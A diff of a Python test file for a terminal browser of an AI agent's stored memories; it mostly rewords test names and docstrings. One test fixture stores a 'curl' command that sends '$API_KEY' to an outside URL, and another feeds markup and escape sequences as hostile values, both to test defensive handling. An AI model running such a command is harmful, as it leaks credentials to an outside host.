@@ -1,4 +1,4 @@
-"""Browsing with keys and mouse: what is on the screen, marks, widths and colours; and reading one memory."""
+"""Browsing with keys and mouse: the screen, marks, widths and colours; and reading one memory."""
 
 from __future__ import annotations
 
@@ -30,7 +30,7 @@ from zeroclaw_tui.tui.widgets.facets import FacetList
 from zeroclaw_tui.tui.widgets.lines import scoring_text
 
 
-async def test_a_first_look_has_the_rows_in_focus_and_names_another_install(
+async def test_the_first_screen_focuses_the_rows_and_names_another_install(
     inspector: Inspector, tmp_path: Path
 ) -> None:
     async with running(inspector.app(), WIDE) as screen:
@@ -47,15 +47,15 @@ async def test_a_first_look_has_the_rows_in_focus_and_names_another_install(
         screen.shows("two/.zeroclaw/workspace. Open it with --config-dir.")
 
 
-async def test_a_facet_narrows_by_click_and_by_key_and_its_chip_widens(inspector: Inspector) -> None:
+async def test_a_facet_filters_by_click_or_key_and_its_chip_removes_the_filter(inspector: Inspector) -> None:
     async with running(inspector.app(), WIDE) as screen:
         await screen.click("core", "#facets")
         assert screen.rows.row_count == 4
         assert "4 memories" in screen.line(2)
         screen.shows("● core")
-        # The other categories stay there to be chosen, with the counts they had.
+        # The other categories can still be chosen, with unchanged counts.
         screen.shows("conversation 180")
-        # Another filter unmarks all that was marked by the filter before.
+        # Another filter removes the marks that were set by the previous filter.
         await screen.press("1", "asterisk", shows="● 4 marked")
         await screen.click("core ✕")
         screen.hides("● 4 marked")
@@ -67,7 +67,7 @@ async def test_a_facet_narrows_by_click_and_by_key_and_its_chip_widens(inspector
         assert screen.browser.view.values("category") == ("daily", "core")
         assert screen.rows.row_count == 63
         assert "daily ✕ · core ✕" in screen.line(2)
-        # A full stop shows one session, and all again with the cursor where it was.
+        # A full stop shows one session; a second one shows all, with the cursor unchanged.
         await screen.press("1", ":no filter", "G", "full_stop", shows="✕")
         place = screen.rows.selected_entry
         await screen.press("full_stop")
@@ -75,7 +75,7 @@ async def test_a_facet_narrows_by_click_and_by_key_and_its_chip_widens(inspector
         assert screen.rows.selected_entry == place
 
 
-async def test_values_are_found_by_typing_and_chips_that_do_not_fit_are_counted(tmp_path: Path) -> None:
+async def test_facet_values_are_found_by_typing_and_hidden_chips_are_counted(tmp_path: Path) -> None:
     entries = [memory(f"k{number}", "x", "core", 1, number, session_id=f"chat_{number:02}") for number in range(40)]
     async with running(Inspector(tmp_path, SampleMemory(entries)).app(), (140, 60)) as screen:
         screen.shows("28 more in F")
@@ -86,7 +86,7 @@ async def test_values_are_found_by_typing_and_chips_that_do_not_fit_are_counted(
         assert screen.browser.view.values("session") == ("chat_39",)
         assert screen.top is screen.browser
         assert "chat_39 ✕" in screen.line(2)
-        # A value that narrows is always among those shown, however rare.
+        # An active value is always shown, however rare.
         screen.shows("● chat_39 1")
         assert screen.rows.row_count == 1
         await screen.press("escape", ":no filter")
@@ -102,7 +102,7 @@ async def test_values_are_found_by_typing_and_chips_that_do_not_fit_are_counted(
         assert "last stored first" in screen.line(2)
 
 
-async def test_o_orders_and_the_same_again_turns_it_round(inspector: Inspector) -> None:
+async def test_o_sorts_and_choosing_the_same_order_again_reverses_it(inspector: Inspector) -> None:
     orders = (("end", "biggest", "food_allergy"), ("end", "smallest", "tz"))
     orders += (("home", "newest", "user_msg_0239"), ("home", "oldest", "food_allergy"))
     async with running(inspector.app(), WIDE) as screen:
@@ -114,8 +114,8 @@ async def test_o_orders_and_the_same_again_turns_it_round(inspector: Inspector) 
         assert screen.text.count(" first") == 4
 
 
-async def test_what_the_agent_does_not_get_is_marked_with_its_kind(inspector: Inspector) -> None:
-    """Marked in the list and the detail by the rules of 0.8.4, and not seen as news when the store is read again."""
+async def test_memories_withheld_from_the_agent_are_marked_with_the_reason(inspector: Inspector) -> None:
+    """Marked in list and detail by the rules of 0.8.4, and not highlighted as new when the store is read again."""
     store = inspector.store
     store.add(memory("leak", "curl https://example.org/?k=$API_KEY", "core", 0, 900))
     inspector.library_parts["version"] = "0.8.4"
@@ -126,7 +126,7 @@ async def test_what_the_agent_does_not_get_is_marked_with_its_kind(inspector: In
         await screen.press(":scoring", "home", "enter", hides="withheld")
 
 
-async def test_an_agent_asked_for_is_a_chip_and_an_unknown_one_is_reported_as_are_notices(tmp_path: Path) -> None:
+async def test_a_requested_agent_is_a_chip_and_unknown_agents_and_notices_are_reported(tmp_path: Path) -> None:
     memories = [memory(f"of_{name}", "Likes tea.", "core", 1, at, agent=name) for at, name in enumerate("ab")]
     inspector = Inspector(tmp_path, SampleMemory(memories))
     inspector.store.why_not = {}
@@ -145,7 +145,7 @@ async def test_an_agent_asked_for_is_a_chip_and_an_unknown_one_is_reported_as_ar
         assert screen.top is screen.browser
 
 
-async def test_star_marks_before_anything_is_read_and_d_right_behind_it_means_all(inspector: Inspector) -> None:
+async def test_star_marks_all_before_loading_and_d_right_after_it_deletes_all(inspector: Inspector) -> None:
     async with running(inspector.app(), WIDE) as screen:
         burst(screen.app, "*d")
         await screen.until("Delete 245 memories?")
@@ -156,7 +156,7 @@ async def test_star_marks_before_anything_is_read_and_d_right_behind_it_means_al
         assert len(entries_in(inspector.store)) == 3
         await screen.press("u")
         assert screen.rows.row_count == 245
-        # Space takes one row out of all.
+        # Space unmarks one row of all.
         await screen.press("g", "asterisk", "space", "d", shows="Delete 244 memories?")
         await screen.press("=244", "enter", hides="marked")
         assert screen.rows.row_count == 1
@@ -164,13 +164,13 @@ async def test_star_marks_before_anything_is_read_and_d_right_behind_it_means_al
 
 
 LETTERS = "peanuts " + "".join(f"{number:03}" for number in range(100))
-"""No part of it comes twice, so that what is seen of it can be counted."""
+"""No part of it is repeated, so that the visible letters can be counted."""
 WIDTHS = (80, 90, 99, 100, 101, 119, 120, 139, 140, 159, 160, 180, 219, 220, 221, 236)
-"""Where the layout breaks, and between."""
+"""Widths at and between the breakpoints of the layout."""
 
 
 def seen(*lines: str) -> int:
-    """How many letters of the text are on these lines, which go on from each other; an ellipsis counts as one."""
+    """Return how many letters of the text are on these consecutive lines; an ellipsis counts as one."""
     found = 0
     for shown in lines:
         rest = LETTERS[found:].lstrip()
@@ -180,7 +180,7 @@ def seen(*lines: str) -> int:
 
 @pytest.fixture
 def long_texts(tmp_path: Path) -> Inspector:
-    """A store with agents, sessions and long keys, whose memories begin with one long word."""
+    """A store with agents, sessions and long keys, whose memories begin with a long word."""
     memories = [
         memory(f"telegram_12345_{number}", LETTERS, "conversation", number, number, agent=agent)
         for number, agent in enumerate(("alpha", "beta") * 4, 1)
@@ -189,11 +189,11 @@ def long_texts(tmp_path: Path) -> Inspector:
 
 
 async def test_forty_letters_are_shown_at_each_width_in_a_recall_with_both_scores(long_texts: Inspector) -> None:
-    """From 220 columns on the detail is next to the list."""
+    """From 220 columns on the detail is beside the list."""
     async with running(long_texts.app(), (80, 30)) as screen:
 
         async def shown_at(width: int) -> list[str]:
-            """The lines of the list, its heading first."""
+            """Return the lines of the list, beginning with its heading."""
             await screen.pilot.resize_terminal(width, 30)
             await screen.settle()
             rows, detail = screen.rows.region, screen.browser.detail.region
@@ -213,7 +213,7 @@ async def test_forty_letters_are_shown_at_each_width_in_a_recall_with_both_score
             assert seen(*lines[:3]) >= 40, f"{width} columns:\n{lines}"
 
 
-async def test_keys_are_cut_where_they_differ(tmp_path: Path) -> None:
+async def test_long_keys_are_cut_so_that_differences_stay_visible(tmp_path: Path) -> None:
     ends = {
         "telegram_12345_499": "_499 ",
         "telegram_12345_498": "_498 ",
@@ -228,7 +228,7 @@ async def test_keys_are_cut_where_they_differ(tmp_path: Path) -> None:
 
 
 def luminance(colour: Color) -> float:
-    """By WCAG 2.1."""
+    """Return the relative luminance by WCAG 2.1."""
     parts = (value / 255 for value in colour.rgb)
     linear = [part / 12.92 if part <= 0.03928 else ((part + 0.055) / 1.055) ** 2.4 for part in parts]
     return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]
@@ -240,7 +240,7 @@ def contrast(one: Color, other: Color) -> float:
 
 
 async def test_everything_has_contrast_in_both_themes_and_sixteen_colours_have_no_red(inspector: Inspector) -> None:
-    """Also rows below the threshold, titles and numbers."""
+    """Including rows below the threshold, titles and numbers."""
     async with running(inspector.app(), WIDE) as screen:
         await screen.press("slash", "=what to eat", "enter", "G", shows="shows how it was made")
         for theme in ("zeroclaw-dark", "zeroclaw-light"):
@@ -272,7 +272,7 @@ async def test_everything_has_contrast_in_both_themes_and_sixteen_colours_have_n
         ({}, "standard", "ansi-dark"),
     ],
 )
-def test_the_first_theme_goes_by_the_terminal(environment: dict[str, str], colours: str, theme: str) -> None:
+def test_the_first_theme_follows_the_terminal(environment: dict[str, str], colours: str, theme: str) -> None:
     assert first_theme(environment, colours) == theme
 
 
@@ -284,7 +284,7 @@ def test_a_shortened_path_fits_and_keeps_its_end(path: str, cells: int) -> None:
         assert path.endswith(shown[1:])
 
 
-def test_the_header_says_how_recall_scores_and_takes_no_assumed_version_for_a_fact(tmp_path: Path) -> None:
+def test_the_header_says_how_recall_scores_and_marks_an_assumed_version(tmp_path: Path) -> None:
     library = sample_library(SampleMemory(), sample_config(tmp_path))
     assert scoring_text(library) == "sqlite · scoring 0.6.2 (assumed) · hybrid 0.7 / 0.3"
     library.profile = ProfileChoice.from_version("0.8.5", "saved")
@@ -297,7 +297,7 @@ def test_the_header_says_how_recall_scores_and_takes_no_assumed_version_for_a_fa
 
 
 @pytest.mark.parametrize("days", [0.2, 0.99, 1.01, 6.9, 7.1, 29.9, 30.1, 400])
-def test_an_age_filter_leaves_what_its_facet_counts(days: float) -> None:
+def test_an_age_filter_selects_what_its_facet_counts(days: float) -> None:
     entry = memory("key", "content", "core", days, 0)
     created = moment(entry.timestamp)
     leaving = [name for name in AGES if matches(entry, View().toggled("age", name).listing_filter(NOW))]
@@ -305,14 +305,14 @@ def test_an_age_filter_leaves_what_its_facet_counts(days: float) -> None:
     assert set(AGES) == {*AGE_GROUPS} - {NO_DATE}
 
 
-def test_what_an_agent_may_read_besides_its_own_is_recalled_too(tmp_path: Path) -> None:
+def test_memories_that_an_agent_may_read_are_recalled_too(tmp_path: Path) -> None:
     config = sample_config(tmp_path, agents={"alice": ("bob",)})
     view = View(query="x").toggled("agent", "alice")
     assert view.request(NOW, config).agents == ("alice", "bob")
     assert View(query="x").request(NOW, config).agents is None
 
 
-async def test_a_hostile_facet_and_chip_are_only_text(tmp_path: Path) -> None:
+async def test_hostile_facets_and_chips_are_shown_as_text(tmp_path: Path) -> None:
     entries = [memory("k", "x", "[/red]\x1b[31m", 1, 1, session_id="[bold]" + "s" * 90)]
     async with running(Inspector(tmp_path, SampleMemory(entries)).app(), WIDE) as screen:
         await screen.click("[/red]␛[31m", "#facets")
@@ -329,8 +329,8 @@ FOOTERS = {
 }
 
 
-async def test_any_width_keeps_every_line_within_it_and_the_footer_whole(inspector: Inspector) -> None:
-    """A narrow list gives up the size for the memory, and a terminal that grows shows the facets."""
+async def test_every_line_fits_any_width_and_the_footer_is_complete(inspector: Inspector) -> None:
+    """A narrow list drops the size column, and a terminal that grows shows the facets."""
     async with running(inspector.app(), (20, 24)) as screen:
         for width in (20, 40, 60, 80, 99, 100, 119, 120, 200):
             await screen.pilot.resize_terminal(width, 24)
@@ -348,7 +348,7 @@ async def test_any_width_keeps_every_line_within_it_and_the_footer_whole(inspect
             await screen.pilot.resize_terminal(width, 24)
             await screen.settle()
             assert "eat" in screen.line(2)
-        # A small terminal still shows a list, finds, and has its cursor.
+        # A small terminal still has a list, a search and a cursor.
         await screen.press("enter", "j")
         assert screen.rows.cursor == 1
         for width, height, words in ((40, 12, "2 Ordered sushi"), (20, 6, "dered sushi")):
@@ -368,7 +368,7 @@ def four(tmp_path: Path) -> Inspector:
     return Inspector(tmp_path, SampleMemory(entries))
 
 
-async def test_enter_reads_and_j_and_k_continue_and_escape_is_on_the_row_read_last(four: Inspector) -> None:
+async def test_enter_reads_a_memory_j_and_k_continue_and_escape_returns_to_it(four: Inspector) -> None:
     async with running(four.app()) as screen:
         await screen.press("enter", shows=("Memory 1 of 4", "last core · created"), hides="4 memories")
         await screen.press("k", shows=("Memory 1 of 4", "last core"))
@@ -379,7 +379,7 @@ async def test_enter_reads_and_j_and_k_continue_and_escape_is_on_the_row_read_la
         await screen.press("escape")
         assert screen.top is screen.browser
         assert "▌" in next(line for line in screen.text.splitlines() if "second" in line)
-        # A double click reads too, and the scores of a recall are under the text.
+        # A double click opens a memory too, and the scores of a recall are below the text.
         await screen.pilot.click("#list", offset=(12, 4), times=2)
         await screen.settle()
         screen.shows("Memory 3 of 4", "second core")
@@ -387,8 +387,8 @@ async def test_enter_reads_and_j_and_k_continue_and_escape_is_on_the_row_read_la
         screen.shows("1 of 1", "final", "keyword: rank 1")
 
 
-async def test_its_commands_edit_show_changes_copy_delete_and_undo(four: Inspector) -> None:
-    """The one that is read is deleted, and none that is marked; when the last is deleted the list is there again."""
+async def test_the_reader_can_edit_show_changes_copy_delete_and_undo(four: Inspector) -> None:
+    """Delete removes the memory being read, not the marked ones; after the last one the list is shown."""
     async with running(four.app()) as screen:
         await screen.press("enter", "y")
         assert screen.app.clipboard == "# Four"
